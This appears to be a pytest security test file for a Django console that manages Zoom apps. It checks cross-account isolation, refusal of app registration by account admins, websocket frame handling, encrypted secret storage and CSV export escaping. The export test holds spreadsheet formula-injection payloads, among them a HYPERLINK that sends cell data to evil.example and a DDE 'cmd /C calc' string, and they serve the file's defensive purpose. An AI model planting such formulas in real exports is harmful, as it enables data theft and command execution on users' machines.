"""The console attacked by a signed-in account admin, and the operator's own way to register apps.

Against daphne and the simulator's Zoom OAuth: an admin of one account tries to register an app of their own, to
configure apps their account never installed, to set auto-start or sharing for another account's users, and an
audit entry carries a spreadsheet formula into the CSV export. Each is refused (or neutralised) and nothing changes.
Registering apps is the operator's: the Django admin for staff, with secrets write-only and encrypted at rest.
"""

import csv
import io
import json
import re
import secrets
import subprocess
import sys

import pytest
import requests
from django.conf import settings
from django.db import connection
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import connect

from rtms.models import StreamSession, TranscriptSegment
from tests import processes
from tests.consent_support import add_sim_user, make_app, meeting_uuid, register_with_sim
from tests.console_support import install_app, post_form, sign_in
from zoomapp.consent import meetings
from zoomapp.consent.models import AuditEntry, SharingPolicy
from zoomapp.console.models import AppRetention, AutoStartSetting
from zoomapp.marketplace.models import ZoomApp

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def apps(daphne, zoomsim):
    """Notetaker, which account A uses; Recorder, which only account B installed."""
    notetaker, recorder = make_app("Notetaker"), make_app("Recorder")
    for app in (notetaker, recorder):
        register_with_sim(zoomsim, daphne.url, app)
    return notetaker, recorder


@pytest.fixture
def admins(daphne, zoomsim, apps):
    """Signed-in console sessions: Olive (owner of account A, through Notetaker) and Bert (admin of account B,
    through Recorder). Mia (A, group gA) installed Notetaker; Ben (B, group gB) installed Recorder."""
    notetaker, recorder = apps
    tag = secrets.token_hex(3)
    people = {"olive": f"olive{tag}", "bert": f"bert{tag}", "mia": f"mia{tag}", "ben": f"ben{tag}"}
    add_sim_user(zoomsim, people["olive"], "Olive Owner", account_id="acctA", role="owner")
    add_sim_user(zoomsim, people["bert"], "Bert Admin", account_id="acctB", role="admin")
    add_sim_user(zoomsim, people["mia"], "Mia Member", account_id="acctA", group_id="gA")
    add_sim_user(zoomsim, people["ben"], "Ben Member", account_id="acctB", group_id="gB")
    install_app(daphne.url, notetaker.client_id, people["mia"])
    install_app(daphne.url, recorder.client_id, people["ben"])
    olive, response = sign_in(daphne.url, notetaker.client_id, people["olive"])
    assert response.status_code == 302
    bert, response = sign_in(daphne.url, recorder.client_id, people["bert"])
    assert response.status_code == 302
    return olive, bert, people


def stored_secrets(app):
    with connection.cursor() as cursor:
        cursor.execute("SELECT client_secret, webhook_secret_token FROM marketplace_zoomapp WHERE id = %s", [app.pk])
        return cursor.fetchone()


# --- registering apps is the operator's ------------------------------------------------------------------------


def test_an_account_admin_cannot_register_or_take_over_an_app_in_the_console(daphne, apps, admins):
    notetaker, _ = apps
    olive, _, _ = admins
    before = list(ZoomApp.objects.order_by("id").values_list("client_id", "name", "account_id"))
    ciphertext = stored_secrets(notetaker)

    own_app = {"name": "Mine", "client_id": "attackerApp", "client_secret": "attacker-secret",
               "webhook_secret_token": "attacker-webhook-token", "home_url": "https://evil.example/"}
    takeover = {**own_app, "client_id": notetaker.client_id}
    for form in (own_app, takeover):
        refused = post_form(olive, f"{daphne.url}/console/apps", form)
        assert refused.status_code == 405 and refused.headers["Allow"] == "GET"
        assert "Apps cannot be registered or changed in the console" in refused.text
        assert "manage.py register_zoom_app or the Django admin" in refused.text

    assert list(ZoomApp.objects.order_by("id").values_list("client_id", "name", "account_id")) == before
    assert stored_secrets(notetaker) == ciphertext
    assert not AuditEntry.objects.filter(kind="app_registered").exists()
    page = olive.get(f"{daphne.url}/console/apps", timeout=10).text
    assert "data-testid=\"register-app\"" not in page and "attacker" not in page


def test_the_apps_page_lists_only_the_accounts_apps_with_the_urls_to_configure_in_zoom(daphne, apps, admins):
    notetaker, recorder = apps
    olive, bert, _ = admins
    page = olive.get(f"{daphne.url}/console/apps", timeout=10).text
    assert f'data-app="{notetaker.client_id}"' in page and recorder.client_id not in page
    for url in (f"/zoom/webhooks/{notetaker.client_id}", f"/panel/{notetaker.client_id}/"):
        assert url in page
    # The redirect URL exactly as OAuth sends it (zoomapp/marketplace/oauth.py redirect_uri): Zoom refuses any other.
    assert f"<code>{settings.SITE_URL}/zoom/oauth/callback/{notetaker.client_id}</code>" in page
    assert notetaker.client_secret not in page and notetaker.webhook_secret_token not in page
    # As often as beat purges media past an account's retention.
    assert settings.CELERY_BEAT_SCHEDULE["console-purge-by-app-retention"]["schedule"] == 600
    assert "older media of stopped streams is deleted every 10 minutes." in " ".join(page.split())
    assert recorder.client_id in bert.get(f"{daphne.url}/console/apps", timeout=10).text


def test_an_app_the_account_never_installed_cannot_be_configured(daphne, apps, admins):
    _, recorder = apps
    olive, _, people = admins
    for page in ("auto-start", "sharing", "audit"):
        assert recorder.client_id not in olive.get(f"{daphne.url}/console/{page}", timeout=10).text, page

    auto_start = post_form(olive, f"{daphne.url}/console/auto-start",
                           {"app": recorder.client_id, "level": "account", "value": "on"})
    assert auto_start.status_code == 400 and "Choose an app your account installed." in auto_start.text
    retention = post_form(olive, f"{daphne.url}/console/apps/retention", {"app": recorder.client_id, "days": 1})
    assert retention.status_code == 302
    assert "Choose an app your account installed." in olive.get(f"{daphne.url}/console/apps", timeout=10).text
    assert not AutoStartSetting.objects.exists() and not AppRetention.objects.exists()


def test_the_sign_in_page_offers_only_apps_that_can_sign_anyone_in(daphne, apps):
    notetaker, _ = apps
    no_credentials = ZoomApp.objects.create(name="Half registered", client_id=f"half{secrets.token_hex(3)}",
                                            client_secret="", webhook_secret_token="")
    page = requests.get(f"{daphne.url}/console/signin", timeout=10).text
    assert "Sign in with Zoom (Notetaker)" in page and "Half registered" not in page
    start = requests.get(f"{daphne.url}/console/signin/{no_credentials.client_id}", allow_redirects=False, timeout=10)
    assert start.status_code == 404


# --- settings only for the account's own users -----------------------------------------------------------------


def test_auto_start_and_sharing_for_another_accounts_user_or_group_are_refused(daphne, apps, admins):
    notetaker, _ = apps
    olive, _, people = admins
    attempts = [
        ("auto-start", {"app": notetaker.client_id, "level": "user", "target_id": people["ben"], "value": "on"},
         f"{people['ben']} is not a user of your account that we know of"),
        ("auto-start", {"app": notetaker.client_id, "level": "user", "target_id": "neverSeen", "value": "on"},
         "neverSeen is not a user of your account that we know of"),
        ("auto-start", {"app": notetaker.client_id, "level": "group", "target_id": "gB", "value": "on"},
         "gB is not a group of your account that we know of"),
        ("sharing", {"level": "user", "target_id": people["ben"], "value": "off"},
         f"{people['ben']} is not a user of your account that we know of"),
        ("sharing", {"level": "group", "target_id": "gB", "value": "off"},
         "gB is not a group of your account that we know of"),
    ]
    for page, form, message in attempts:
        refused = post_form(olive, f"{daphne.url}/console/{page}", form)
        assert refused.status_code == 400 and message in refused.text, (page, form)
    assert not AutoStartSetting.objects.exists() and not SharingPolicy.objects.exists()
    assert not AuditEntry.objects.filter(kind__in=("auto_start_changed", "sharing_policy_changed")).exists()


def test_settings_for_the_accounts_own_users_groups_and_meeting_hosts_are_saved(daphne, apps, admins):
    notetaker, _ = apps
    olive, _, people = admins
    # Hank hosted one of account A's meetings (a signed webhook of Notetaker said so) but installed nothing.
    meetings.get_meeting(notetaker, meeting_uuid(), host_user_id="hankA", account_id="acctA", topic="A weekly")
    saved = [
        ("auto-start", {"app": notetaker.client_id, "level": "user", "target_id": people["mia"], "value": "on"}),
        ("auto-start", {"app": notetaker.client_id, "level": "user", "target_id": "hankA", "value": "on"}),
        ("auto-start", {"app": notetaker.client_id, "level": "group", "target_id": "gA", "value": "on"}),
        ("sharing", {"level": "user", "target_id": people["mia"], "value": "off"}),
    ]
    for page, form in saved:
        assert post_form(olive, f"{daphne.url}/console/{page}", form).status_code == 302, (page, form)
    assert set(AutoStartSetting.objects.values_list("account_id", "target_id")) == {
        ("acctA", people["mia"]), ("acctA", "hankA"), ("acctA", "gA")}
    assert SharingPolicy.objects.get().account_id == "acctA"


def test_a_row_set_before_the_rule_for_an_unknown_user_can_still_be_cleared(daphne, apps, admins):
    notetaker, _ = apps
    olive, _, _ = admins
    AutoStartSetting.objects.create(account_id="acctA", level="user", target_id="legacyUser", app=notetaker,
                                    auto_start=True)
    cleared = post_form(olive, f"{daphne.url}/console/auto-start",
                        {"app": notetaker.client_id, "level": "user", "target_id": "legacyUser", "value": "unset"})
    assert cleared.status_code == 302 and not AutoStartSetting.objects.exists()


# --- another app's meeting row never opens this app's data ----------------------------------------------------


def test_another_apps_row_claiming_a_meeting_for_another_account_opens_nothing_of_this_apps(daphne, apps, admins):
    """Recorder's signed webhooks (or its leaked secret) say account B hosts meeting U, which Notetaker knows as
    account A's: B's admin sees Recorder's view of U only, never Notetaker's stream, transcript or audit entries,
    and deleting U's data from B's console erases nothing of Notetaker's."""
    notetaker, recorder = apps
    olive, bert, _ = admins
    uuid = meeting_uuid()
    a_meeting = meetings.get_meeting(notetaker, uuid, host_user_id="hostA", account_id="acctA", topic="A board")
    meetings.get_meeting(recorder, uuid, host_user_id="hostB", account_id="acctB", topic="claimed by B")
    stream = StreamSession.objects.create(rtms_stream_id=secrets.token_hex(16), meeting_uuid=uuid,
                                          client_id=notetaker.client_id, operator_id="hostA", state="stopped",
                                          transcript_count=1)
    TranscriptSegment.objects.create(stream=stream, user_id=1, start_time=1, end_time=2, timestamp=1, text="A only")
    AuditEntry.objects.create(kind="approve", app=notetaker, meeting_uuid=uuid, account_id="acctA",
                              actor_user_id="hostA", reason="A's decision")

    for page in ("meetings", "streams", "audit"):
        text = bert.get(f"{daphne.url}/console/{page}", params={"meeting": uuid}, timeout=10).text
        assert stream.rtms_stream_id not in text and "A's decision" not in text and "A board" not in text, page
    exported = bert.get(f"{daphne.url}/console/audit.csv", params={"meeting": uuid}, timeout=10).text
    assert "A's decision" not in exported and stream.rtms_stream_id not in exported

    for client_id in (recorder.client_id, notetaker.client_id):
        post_form(bert, f"{daphne.url}/console/meetings/delete-data",
                  {"meeting_uuid": uuid, "client_id": client_id, "confirm": "yes"})
    assert TranscriptSegment.objects.filter(stream=stream).count() == 1
    assert not StreamSession.objects.get(pk=stream.pk).media_deleted

    # Account A's admin still sees Notetaker's meeting with its stored transcript.
    page = olive.get(f"{daphne.url}/console/meetings", timeout=10).text
    assert f'data-meeting="{a_meeting.uuid}" data-app="{notetaker.client_id}"' in page and "1 transcript" in page


def test_the_live_streams_socket_closes_when_its_session_ends(daphne, apps, admins):
    olive, _, _ = admins
    socket_url = daphne.url.replace("http://", "ws://") + "/ws/console/streams"
    cookie = "; ".join(f"{k}={v}" for k, v in olive.cookies.items())
    with connect(socket_url, additional_headers={"Cookie": cookie, "Origin": daphne.url}, open_timeout=10) as ws:
        assert json.loads(ws.recv(timeout=10))["version"] == 1
        assert post_form(olive, f"{daphne.url}/console/signout", {}).status_code == 302
        with pytest.raises(ConnectionClosed) as closed:
            for _ in range(3):  # a refresh already on its way may still arrive; then it must close
                ws.recv(timeout=10)
    assert closed.value.rcvd.code == 4403


async def test_the_live_streams_socket_refuses_frames_it_cannot_read_and_stays_open():
    """Channels' own JSON decoding raised on these (not JSON, nested past Python's parser, binary) and the socket
    ended with an error; each is refused and a JSON frame still asks for a fresh table."""
    from asgiref.sync import sync_to_async
    from channels.testing import WebsocketCommunicator

    from tests.console_support import signed_in_session
    from zoomapp.console.consumers import LiveStreamsConsumer

    def admin_session():
        return signed_in_session(make_app("Notetaker"), "olive1", "acctA", name="Olive")

    async def next_answer(kind):  # the table is also pushed every REFRESH_SECONDS
        while True:
            answer = await socket.receive_json_from(timeout=10)
            if ("type" in answer) == (kind == "refused"):
                return answer

    socket = WebsocketCommunicator(LiveStreamsConsumer.as_asgi(), "/ws/console/streams")
    socket.scope["session"] = await sync_to_async(admin_session)()
    assert (await socket.connect(timeout=10))[0]
    assert (await next_answer("table"))["version"] == 1
    for frame in ({"text_data": "not json"}, {"text_data": "[" * 2000 + "]" * 2000}, {"bytes_data": b"{}"}):
        await socket.send_to(**frame)
        assert await next_answer("refused") == {"type": "refused", "code": "bad_request",
                                                "message": "Send JSON text frames only."}
    await socket.send_to(text_data="{}")
    assert (await next_answer("table"))["version"] >= 2
    await socket.disconnect()


# --- the audit export ----------------------------------------------------------------------------------------------


def test_audit_cells_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text(daphne, apps, admins):
    olive, _, _ = admins
    hostile = {
        "reason": '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
        "subject_user_id": "@SUM(1+1)",
        "actor_user_id": "+cmd|' /C calc'!A0",
        "outcome": "-2+3",
        "source_address": "\tTAB",
        "meeting_uuid": "\r=1",
    }
    AuditEntry.objects.create(kind="hostile", account_id="acctA", **hostile)
    exported = olive.get(f"{daphne.url}/console/audit.csv", params={"kind": "hostile"}, timeout=10)
    (row,) = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    for column, value in hostile.items():
        assert row[column] == "'" + value, column


# --- the operator's Django admin -------------------------------------------------------------------------------


@pytest.fixture
def staff(daphne):
    from django.contrib.auth.models import User

    password = secrets.token_urlsafe(16)
    User.objects.create_superuser(f"operator{secrets.token_hex(3)}", "ops@example.com", password)
    session = requests.Session()
    login = session.get(f"{daphne.url}/django-admin/login/", timeout=10)
    assert login.status_code == 200
    username = User.objects.get(is_superuser=True).username
    done = session.post(f"{daphne.url}/django-admin/login/?next=/django-admin/", allow_redirects=False, timeout=10,
                        data={"username": username, "password": password,
                              "csrfmiddlewaretoken": session.cookies["csrftoken"]})
    assert done.status_code == 302, done.text
    return session


def admin_post(session, url, data):
    page = session.get(url, timeout=10)
    assert page.status_code == 200, page.text
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text).group(1)
    return session.post(url, data={**data, "csrfmiddlewaretoken": token}, allow_redirects=False, timeout=10), page


def test_staff_register_an_app_in_the_django_admin_and_its_secrets_are_never_shown(daphne, staff):
    add_url = f"{daphne.url}/django-admin/marketplace/zoomapp/add/"
    missing, _ = admin_post(staff, add_url, {"name": "Transcriber", "client_id": "transcriberApp", "home_url": "",
                                             "account_id": "acctDev"})
    assert missing.status_code == 200 and "Required for a new app" in missing.text
    assert not ZoomApp.objects.filter(client_id="transcriberApp").exists()

    saved, _ = admin_post(staff, add_url, {
        "name": "Transcriber", "client_id": "transcriberApp", "home_url": "", "account_id": "acctDev",
        "client_secret": "s3cret-client", "webhook_secret_token": "s3cret-webhook"})
    assert saved.status_code == 302, saved.text
    app = ZoomApp.objects.get(client_id="transcriberApp")
    assert (app.client_secret, app.webhook_secret_token) == ("s3cret-client", "s3cret-webhook")
    assert not any("s3cret" in value for value in stored_secrets(app))

    change_url = f"{daphne.url}/django-admin/marketplace/zoomapp/{app.pk}/change/"
    renamed, page = admin_post(staff, change_url, {"name": "Transcriber 2", "home_url": "", "account_id": "acctDev",
                                                   "client_secret": "", "webhook_secret_token": ""})
    assert "s3cret" not in page.text and "/zoom/webhooks/transcriberApp" in page.text
    assert renamed.status_code == 302, renamed.text
    app.refresh_from_db()
    assert (app.name, app.client_secret, app.webhook_secret_token) == ("Transcriber 2", "s3cret-client",
                                                                      "s3cret-webhook")
    assert "s3cret" not in staff.get(f"{daphne.url}/django-admin/marketplace/zoomapp/", timeout=10).text


def test_the_operator_registers_an_app_with_the_management_command(stack_env):
    client_id = f"cmd{secrets.token_hex(4)}"
    # The secrets from the environment, never the command line, which other users' `ps` shows.
    result = subprocess.run(
        [sys.executable, "manage.py", "register_zoom_app", "--name", "Summarizer", "--client-id", client_id],
        cwd=processes.ROOT, capture_output=True, text=True, timeout=60, stdin=subprocess.DEVNULL,
        env={**stack_env, "ZOOM_APP_CLIENT_SECRET": "cmd-s3cret-client",
             "ZOOM_APP_WEBHOOK_SECRET_TOKEN": "cmd-s3cret-webhook"})
    assert result.returncode == 0, result.stderr
    assert "Webhook URL: " in result.stdout and "s3cret" not in result.stdout + result.stderr
    app = ZoomApp.objects.get(client_id=client_id)
    assert (app.name, app.client_secret, app.webhook_secret_token) == ("Summarizer", "cmd-s3cret-client",
                                                                       "cmd-s3cret-webhook")
    assert not any("s3cret" in value for value in stored_secrets(app))


def test_a_console_session_gets_nothing_from_the_django_admin(daphne, apps, admins):
    olive, _, _ = admins
    page = olive.get(f"{daphne.url}/django-admin/marketplace/zoomapp/add/", allow_redirects=False, timeout=10)
    assert page.status_code == 302 and "/django-admin/login/" in page.headers["Location"]
    posted = post_form(olive, f"{daphne.url}/django-admin/marketplace/zoomapp/add/",
                       {"name": "Mine", "client_id": "attackerApp", "client_secret": "x", "webhook_secret_token": "y"})
    assert posted.status_code in (302, 403)
    assert not ZoomApp.objects.filter(client_id="attackerApp").exists()
